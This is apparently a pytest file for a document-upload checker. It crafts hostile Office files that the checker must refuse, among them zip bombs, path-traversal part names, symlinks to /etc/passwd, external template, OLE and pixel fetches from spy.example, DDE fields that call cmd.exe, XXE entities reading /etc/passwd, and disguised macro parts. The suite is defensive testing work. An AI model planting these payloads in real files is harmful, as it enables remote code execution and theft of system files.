"""Word and Excel files made to do harm: bombs, archives that lie, calls outside, macros under other names."""

from __future__ import annotations

import io
import struct
import zipfile

import pytest

from xaso.kernel.documents.intake import check_upload
from xaso.kernel.documents.tests.test_intake import picture
from xaso.kernel.documents.tests.test_intake_hostile import OFFICE, refused, word

RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
    ' Target="{target}" {mode}/></Relationships>'
)
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def test_an_honest_office_file_passes_byte_for_byte():
    link = RELS.format(kind="hyperlink", target="https://dichvucong.gov.vn", mode='TargetMode="External"')
    inside = RELS.format(kind="image", target="media/a.png", mode="")
    content = word(
        {
            "word/_rels/document.xml.rels": link,
            "word/_rels/b.xml.rels": inside,
            "word/media/a.png": picture("PNG"),
        }
    )
    assert check_upload(content, "Đơn.docx", OFFICE).content == content


def test_archives_that_lie_about_their_size():
    content = bytearray(word({"word/big.xml": b"\0" * (3 << 20)}))
    # The directory says 10 bytes; the part unpacks to three million.
    place = content.index(b"PK\x01\x02", content.index(b"PK\x01\x02", content.index(b"PK\x01\x02") + 4) + 4)
    content[place + 24 : place + 28] = struct.pack("<I", 10)
    refused(bytes(content), "hỏng|bung ra")


def test_too_many_parts_too_even_parts_and_shared_parts(settings):
    refused(word({"word/a.bin": b"\0" * (3 << 20)}), "bung ra")
    settings.XASO_UPLOAD_PARTS = "50"
    refused(word({f"word/{number}.xml": "" for number in range(60)}), "bung ra")
    settings.XASO_UPLOAD_PARTS = "4000"
    settings.XASO_UPLOAD_UNPACKED_MB = "1"
    refused(word({"word/a.bin": bytes(range(256)) * 6000}, zipfile.ZIP_STORED), "bung ra")


def test_parts_that_overlap():
    plain = word({"word/a.bin": b"x" * 5000}, zipfile.ZIP_STORED)
    out = bytearray(plain)
    # A second line of the directory points into the part before it.
    places = [at for at in range(len(out)) if out[at : at + 4] == b"PK\x01\x02"]
    out[places[2] + 42 : places[2] + 46] = out[places[1] + 42 : places[1] + 46]
    refused(bytes(out), "bung ra|hỏng")


def test_archives_in_archives():
    for head in (
        word(),
        b"7z\xbc\xaf\x27\x1c" + b"\0" * 40,
        b"\x1f\x8b\x08" + b"\0" * 40,
        b"Rar!\x1a\x07\0" + b"\0" * 40,
    ):
        refused(word({"word/media/a.bin": head}), "tệp nhúng")


@pytest.mark.parametrize("name", ["../evil.xml", "/etc/passwd", "word\\..\\evil.xml", "C:/evil.xml"])
def test_parts_with_a_way_out(name: str):
    refused(word({name: "x"}), "hỏng")


def test_links_of_the_file_system_and_twins():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("[Content_Types].xml", "<Types/>")
        file.writestr("word/document.xml", "<w/>")
        link = zipfile.ZipInfo("word/link")
        link.external_attr = 0o120777 << 16
        file.writestr(link, "/etc/passwd")
    refused(out.getvalue(), "hỏng")
    with pytest.warns(UserWarning, match="Duplicate"):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as file:
            for name in ("[Content_Types].xml", "word/document.xml", "word/document.xml"):
                file.writestr(name, "<w/>")
    refused(out.getvalue(), "hỏng")


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "https://spy.example/a.dotm"),
        ("oleObject", "https://spy.example/a.bin"),
        ("image", "https://spy.example/pixel.png"),
        ("hyperlink", "file:///etc/passwd"),
        ("hyperlink", "javascript:alert(1)"),
        ("externalLinkPath", "\\\\spy\\share\\a.xlsx"),
    ],
)
def test_what_is_fetched_by_itself(kind: str, target: str):
    for mode in ('TargetMode="External"', "TargetMode='&#69;xternal'"):
        refused(
            word({"word/_rels/document.xml.rels": RELS.format(kind=kind, target=target, mode=mode)}), "tự gọi"
        )


def test_commands_in_fields_even_when_cut_in_pieces():
    cut = "".join(
        f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in ("DD", "EAU", "TO c:\\\\cmd.exe")
    )
    refused(word({"word/document.xml": f'<w:p xmlns:w="{WORD}">{cut}</w:p>'}), "tự gọi")
    simple = f'<w:p xmlns:w="{WORD}"><w:fldSimple w:instr="DDE cmd"/></w:p>'
    refused(word({"word/document.xml": simple}), "tự gọi")
    page = f'<w:p xmlns:w="{WORD}"><w:instrText> PAGE </w:instrText></w:p>'
    assert check_upload(word({"word/document.xml": page}), "a.docx", OFFICE)


def test_entities_and_odd_encodings_in_the_parts():
    bomb = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c SYSTEM "file:///etc/passwd">]><a>&c;</a>'
    refused(word({"word/document.xml": bomb}), "tự gọi")
    refused(word({"word/document.xml": bomb.encode("utf-16")}), "tự gọi")
    refused(word({"word/_rels/document.xml.rels": bomb}), "tự gọi")
    refused(word({"word/document.xml": bomb.encode("utf-16-le")}), "hỏng")
    refused(word({"word/document.xml": b'<?xml version="1.0" encoding="UTF-7"?><a/>'}), "hỏng")
    refused(word({"word/document.xml": b'<?xml version="1.0" encoding="cp037"?><a/>'}), "hỏng")


def test_macros_under_other_names():
    refused(word({"word/vbaProject2.bin": b"x"}), "macro")
    refused(word({"word/activeX/activeX1.xml": "<a/>"}), "macro")
    refused(word({"[content_types].xml ": "<a/>", "word/embeddings/a.bin": b"x"}), "macro")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr(
            "[Content_Types].xml",
            '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        )
        file.writestr("word/document.xml", "<w/>")
    refused(out.getvalue(), "macro")


def test_locked_and_damaged_office_files():
    whole = bytearray(word({"word/a.bin": b"x" * 5000}))
    place = whole.index(b"PK\x01\x02")
    whole[place + 8] |= 1
    refused(bytes(whole), "mật khẩu")
    broken = bytearray(word({"word/a.bin": bytes(range(256)) * 20}))
    at = broken.index(b"word/a.bin") + 60
    broken[at : at + 20] = b"\xff" * 20
    refused(bytes(broken), "hỏng")
